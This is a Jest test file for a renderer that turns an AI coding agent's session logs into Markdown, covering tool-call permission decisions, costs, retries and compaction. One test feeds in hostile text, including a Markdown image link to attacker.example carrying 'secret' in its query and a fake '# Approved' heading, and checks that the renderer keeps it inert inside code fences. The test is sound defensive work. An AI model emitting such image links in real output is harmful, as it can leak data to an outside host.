import { describe, it, expect } from '@jest/globals'
import { readSession, type Session } from '../../src/session/reader.js'
import { renderSessionMarkdown, renderSessionSummary } from '../../src/session/render.js'
import type { SessionEvent } from '../../src/session/events.js'
import { SAMPLE_SESSION } from './helpers.js'

/**
 * Splits a Markdown text by CommonMark's rules for backtick fences: a block closes at the first
 * line of only backticks, at least as many as opened it. `blocks` are the fenced contents,
 * `outside` the rest: what would render as formatting.
 */
function scanFences(markdown: string): { blocks: string[]; outside: string } {
  const blocks: string[] = []
  const outside: string[] = []
  const lines = markdown.split('\n')
  for (let index = 0; index < lines.length; index += 1) {
    const open = /^ {0,3}(`{3,})([^`]*)$/.exec(lines[index] as string)
    if (!open) {
      outside.push(lines[index] as string)
      continue
    }
    const length = (open[1] as string).length
    const body: string[] = []
    index += 1
    while (index < lines.length) {
      const close = /^ {0,3}(`+) *$/.exec(lines[index] as string)
      if (close && (close[1] as string).length >= length) break
      body.push(lines[index] as string)
      index += 1
    }
    blocks.push(body.join('\n'))
  }
  return { blocks, outside: outside.join('\n') }
}

const fencedBlocks = (markdown: string): string[] => scanFences(markdown).blocks
const outsideFences = (markdown: string): string => scanFences(markdown).outside

const sample = readSession(SAMPLE_SESSION)

function withEvents(events: SessionEvent[], truncatedTail = false): Session {
  return { header: sample.header, events, truncatedTail }
}

describe('renderSessionMarkdown', () => {
  const markdown = renderSessionMarkdown(sample)

  it('shows the header', () => {
    expect(markdown).toMatch(/^# claw session: fix on octo-org\/widgets\n/)
    expect(markdown).toContain('| Event | issue\\_comment |')
    expect(markdown).toContain('| Model | claude-sonnet-4-5 |')
    expect(markdown).toContain(`.github/claw.yml (digest \`${sample.header.policy_digest}\`)`)
    expect(markdown).toContain('| Started | 2026-11-02T10:15:00.000Z |')
    expect(markdown).not.toContain('Bash isolation')
  })

  it('shows the Bash isolation when the header records it', () => {
    const isolated = renderSessionMarkdown({
      ...sample,
      header: {
        ...sample.header,
        isolation: { level: 'user-namespace', network: 'isolated', detail: 'own PID | net' }
      }
    })
    expect(isolated).toContain(
      '| Bash isolation | user-namespace, network isolated: own PID \\| net |'
    )
    const none = renderSessionMarkdown({
      ...sample,
      header: { ...sample.header, isolation: { level: 'none', network: 'host', detail: 'off' } }
    })
    expect(none).toContain('| Bash isolation | **none**: off |')
  })

  it('shows each tool call with its decision and rule', () => {
    expect(markdown).toContain('**Bash** `npm test` — allow (`bash.allow: npm test`)')
    expect(markdown).toContain('**Edit** `src/sum.js` — allow (`write.allow: src/**`)')
    expect(markdown).toContain(
      '**Bash** `git push origin main` — **deny** (`bash.deny: git push *`): git push is denied'
    )
    expect(markdown).toContain(
      '**Bash** `npm install left-pad` — **ask** (`bash.ask: npm install *`)'
    )
  })

  it('shows retries, per-request usage and the assistant text', () => {
    expect(markdown).toContain('Retry 1 of turn 1 in 1.0 s: HTTP 529 overloaded\\_error')
    expect(markdown).toContain(
      'Model request: claude-sonnet-4-5-20250929 · 1,200 input · 80 output · 0 cache read · 1,100 cache write tokens · $0.0056 · 2.1 s · stop: tool\\_use'
    )
    expect(fencedBlocks(markdown)).toContain('Let me run the tests first.')
  })

  it('shows the outcome, tokens, cost and pending approvals', () => {
    const outcome = markdown.slice(markdown.indexOf('## Outcome'))
    expect(outcome).toContain('| Status | **needs-approval** |')
    expect(outcome).toContain('| Turns | 3 |')
    expect(outcome).toContain('| Input tokens | 1,750 |')
    expect(outcome).toContain('| Cache read tokens | 5,000 |')
    expect(outcome).toContain('| Cache write tokens | 1,800 |')
    expect(outcome).toContain('| Cost (USD) | $0.0131 |')
    expect(outcome).toContain('| Branch | `claw/fix-12` |')
    expect(outcome).toContain(
      '- **Bash** `npm install left-pad` (`bash.ask: npm install *`), call `toolu_04`'
    )
  })

  it('keeps a result holding ``` inside its fence, whole', () => {
    const result = sample.events.find(
      event => event.type === 'tool_result' && event.id === 'toolu_01'
    )
    if (result?.type !== 'tool_result') throw new Error('fixture changed')
    expect(result.content).toContain('```')
    expect(fencedBlocks(markdown)).toContain(result.content)
    // Nothing after the result became code: the next call's line is still outside any fence.
    expect(outsideFences(markdown)).toContain('**Edit** `src/sum.js`')
  })

  it('keeps hostile tool output and model text from becoming Markdown or HTML', () => {
    const hostile = [
      '`````',
      '</details>',
      '# Approved',
      '![x](https://attacker.example/?q=secret)',
      '```'
    ].join('\n')
    const session = withEvents([
      {
        type: 'message',
        message: {
          role: 'assistant',
          content: [
            { type: 'text', text: hostile },
            { type: 'tool_use', id: 't1', name: 'Bash', input: { command: 'cat `ls`' } }
          ]
        }
      },
      {
        type: 'tool_call',
        id: 't1',
        tool: 'Bash',
        input: { command: 'cat `ls`' },
        decision: {
          decision: 'deny',
          rule: 'bash',
          reason: 'no ![y](https://attacker.example/) <b>here</b>'
        }
      },
      {
        type: 'tool_result',
        id: 't1',
        tool: 'Bash',
        is_error: true,
        content: hostile,
        duration_ms: 1
      }
    ])
    const rendered = renderSessionMarkdown(session)
    const blocks = fencedBlocks(rendered)
    expect(blocks.filter(block => block === hostile)).toHaveLength(2)
    const outside = outsideFences(rendered)
    expect(outside).not.toContain('![')
    expect(outside).not.toContain('<b>')
    expect(outside).not.toMatch(/^# Approved/m)
    // CommonMark strips the padding spaces of a code span that starts or ends with a backtick.
    expect(outside).toContain('**Bash** `` cat `ls` `` — **deny**')
  })

  it('says so when the run did not finish', () => {
    const events = sample.events.filter(event => event.type !== 'outcome')
    const rendered = renderSessionMarkdown(withEvents(events, true))
    expect(rendered).toContain('No outcome line: the run did not finish')
    expect(rendered).toContain('The last line of the file was cut off mid-write')
    expect(rendered).toContain(
      '| 3 | 1,750 input, 270 output, 5,000 cache read, 1,800 cache write | $0.0131 |'
    )
  })

  it('shows a compaction with its summary', () => {
    const rendered = renderSessionMarkdown(
      withEvents([
        { type: 'message', message: { role: 'user', content: 'hello' } },
        {
          type: 'compaction',
          replaced_messages: 1,
          tokens_before: 150000,
          summary: 'We fixed sum.'
        }
      ])
    )
    expect(rendered).toContain('### Compaction')
    expect(rendered).toContain(
      'The first 1 messages (150,000 tokens of context) were replaced by this summary:'
    )
    expect(fencedBlocks(rendered)).toContain('We fixed sum.')
  })
})

describe('renderSessionSummary', () => {
  it('gives the outcome, cost, tokens and tool calls by decision', () => {
    const summary = renderSessionSummary(sample)
    expect(summary).toContain('### claw fix: needs-approval')
    expect(summary).toContain('| 3 | 1,750 | 270 | 5,000 | 1,800 | $0.0131 |')
    expect(summary).toContain('Tool calls: 4 (2 allowed, 1 denied, 1 asked).')
    expect(summary).toContain('- **Bash** `npm install left-pad` (`bash.ask: npm install *`)')
    expect(summary.split('\n').length).toBeLessThan(20)
  })

  it('sums the requests of an unfinished run', () => {
    const events = sample.events.filter(event => event.type !== 'outcome')
    const summary = renderSessionSummary(withEvents(events))
    expect(summary).toContain('### claw fix: unfinished')
    expect(summary).toContain('| ? | 1,750 | 270 | 5,000 | 1,800 | $0.0131 |')
  })
})
